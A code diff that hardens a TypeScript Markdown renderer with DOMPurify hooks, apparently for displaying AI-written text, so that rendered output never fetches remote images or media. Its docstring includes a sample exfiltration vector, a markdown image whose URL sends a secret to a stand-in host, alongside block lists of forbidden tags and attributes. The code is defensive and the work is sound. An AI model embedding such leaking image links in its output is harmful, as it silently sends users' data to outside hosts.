@@ -3,28 +3,133 @@
  * escaped, not passed through), then DOMPurify sanitizes what comes out, so nothing a
  * model writes can execute. Links open in a new tab. `enhanceCodeBlocks` adds a copy
  * button to every code block (built with DOM calls, after sanitizing).
+ *
+ * Nothing a model writes makes the browser fetch anything by itself either (a remote image
+ * `![x](https://host/leak?d=secret)` would otherwise report to `host` the moment it shows).
+ * The sanitizer, not the markdown renderer, enforces this, so it holds for any HTML that
+ * reaches it (markdown-it only ever emits `<img>` and table `style`s of the kinds below;
+ * the rest is defence in depth should raw HTML ever be let through):
+ *
+ * - `<img>` (and `<image>`, which the HTML parser turns into `<img>`), `<input type=image>`,
+ *   `<video>`, `<audio>`: replaced by a link to their URL (`a.think-media-link`, a 🖼/▶
+ *   label with the alt text); the click is the user's. Inside another link: by its label.
+ * - Inline images stay: an `<img>` whose `src` is a `data:image/(png|gif|jpeg|webp|avif|bmp)`
+ *   URI carries its bytes and is decoded locally, with no request (these are the data
+ *   images markdown-it lets through, plus avif/bmp). `data:image/svg+xml` does not stay:
+ *   SVG is a document format that can reference other URLs.
+ * - `src` is dropped everywhere else; `srcset`, `imagesrcset`, `poster`, `background`,
+ *   `lowsrc`, `dynsrc`, `longdesc` and `ping` are dropped everywhere.
+ * - `<picture>` is unwrapped (its `<img>` becomes a link), `<source>` and `<track>`
+ *   dropped; `<link>`, `<style>` (with its text), `<meta>`, `<base>`, frames, `<object>`,
+ *   `<embed>`, `<portal>` and `<fencedframe>` dropped.
+ * - SVG and MathML are not allowed at all (`USE_PROFILES: {html: true}`), which removes
+ *   `<svg><image>`, `<feImage>`, `<use>` and `fill="url(...)"`-style references.
+ * - A `style` attribute stays only without `(` and `\`: no `(` means no CSS function, so
+ *   no `url()`, `image-set()` or `src()` (and no escape can spell one). markdown-it's
+ *   table alignment (`style="text-align:right"`) passes.
  */
-import DOMPurify from "dompurify";
+import DOMPurify, { type Config } from "dompurify";
 import MarkdownIt from "markdown-it";
 
 const md = new MarkdownIt({ html: false, linkify: true, breaks: false });
 
-let hooked = false;
-function addLinkHook(): void {
-  if (hooked) return;
-  hooked = true;
-  DOMPurify.addHook("afterSanitizeAttributes", (node) => {
-    if (node.tagName === "A") {
-      node.setAttribute("target", "_blank");
-      node.setAttribute("rel", "noopener noreferrer");
-    }
-  });
+/** Our own DOMPurify instance, so the hooks below touch no one else's sanitizing. */
+const purify = DOMPurify();
+
+/** Images that are their own bytes: decoded locally, never fetched. */
+const INLINE_IMAGE = /^data:image\/(?:png|gif|jpeg|webp|avif|bmp)[;,]/i;
+
+const CONFIG: Config = {
+  USE_PROFILES: { html: true },
+  ADD_ATTR: ["target"],
+  FORBID_TAGS: [
+    "picture", "source", "track", "link", "style", "meta", "base", "iframe", "frame", "frameset",
+    "object", "embed", "portal", "fencedframe",
+  ],
+  FORBID_ATTR: ["srcset", "imagesrcset", "poster", "background", "lowsrc", "dynsrc", "longdesc", "ping"],
+};
+
+function isInlineImage(url: string): boolean {
+  return INLINE_IMAGE.test(url.trim());
+}
+
+/** The URL a media element would load (its `src`, else its first `<source>`, `srcset` or poster). */
+function mediaUrl(el: Element): string {
+  const first = (srcset: string | null) => (srcset ?? "").trim().split(/[\s,]+/)[0] ?? "";
+  return (
+    el.getAttribute("src")?.trim() ||
+    el.querySelector("source[src]")?.getAttribute("src")?.trim() ||
+    first(el.getAttribute("srcset")) ||
+    first(el.querySelector("source[srcset]")?.getAttribute("srcset") ?? null) ||
+    el.getAttribute("poster")?.trim() ||
+    ""
+  );
+}
+
+/** Only http(s) links (relative ones resolve against the page, an http(s) origin). */
+function isWebUrl(url: string): boolean {
+  try {
+    return /^https?:$/.test(new URL(url, document.baseURI).protocol);
+  } catch {
+    return false;
+  }
+}
+
+/** Put a link to `el`'s URL in its place (or, inside a link, just its label). */
+function replaceWithLink(el: Element, kind: "image" | "video" | "audio"): void {
+  const doc = el.ownerDocument;
+  const url = mediaUrl(el);
+  const name = el.getAttribute("alt")?.trim() || el.getAttribute("title")?.trim() || url || kind;
+  const label = `${kind === "image" ? "🖼" : "▶"} ${name}`;
+  let replacement: Element | Text;
+  if (el.parentElement?.closest("a") || !isWebUrl(url)) {
+    replacement = doc.createTextNode(label);
+  } else {
+    const a = doc.createElement("a");
+    a.setAttribute("href", url);
+    a.setAttribute("title", `${kind}: ${url} (not loaded)`);
+    a.setAttribute("class", "think-media-link");
+    a.setAttribute("target", "_blank");
+    a.setAttribute("rel", "noopener noreferrer");
+    a.textContent = label;
+    replacement = a;
+  }
+  el.replaceWith(replacement); // DOMPurify sees the node detached and moves on
+}
+
+purify.addHook("uponSanitizeElement", (node, data) => {
+  if (node.nodeType !== 1) return;
+  const el = node as Element;
+  const tag = data.tagName;
+  if (tag === "img" && !isInlineImage(el.getAttribute("src") ?? "")) replaceWithLink(el, "image");
+  else if (tag === "input" && el.getAttribute("type")?.trim().toLowerCase() === "image") replaceWithLink(el, "image");
+  else if (tag === "video" || tag === "audio") replaceWithLink(el, tag);
+});
+
+purify.addHook("uponSanitizeAttribute", (node, data) => {
+  const name = data.attrName;
+  if (name === "src") {
+    data.keepAttr = node.nodeName === "IMG" && isInlineImage(data.attrValue);
+  } else if (name === "style") {
+    data.keepAttr = !/[(\\]/.test(data.attrValue);
+  }
+});
+
+purify.addHook("afterSanitizeAttributes", (node) => {
+  if (node.nodeName === "A") {
+    node.setAttribute("target", "_blank");
+    node.setAttribute("rel", "noopener noreferrer");
+  }
+});
+
+/** Sanitized HTML: nothing in it runs, and nothing in it loads by itself (see the module docstring). */
+export function sanitizeHtml(html: string): string {
+  return purify.sanitize(html, CONFIG) as string;
 }
 
 /** Sanitized HTML for `text` read as Markdown. */
 export function renderMarkdown(text: string): string {
-  addLinkHook();
-  return DOMPurify.sanitize(md.render(text), { ADD_ATTR: ["target"] });
+  return sanitizeHtml(md.render(text));
 }
 
 /** Copy `text` to the clipboard (Clipboard API, else a hidden textarea). */
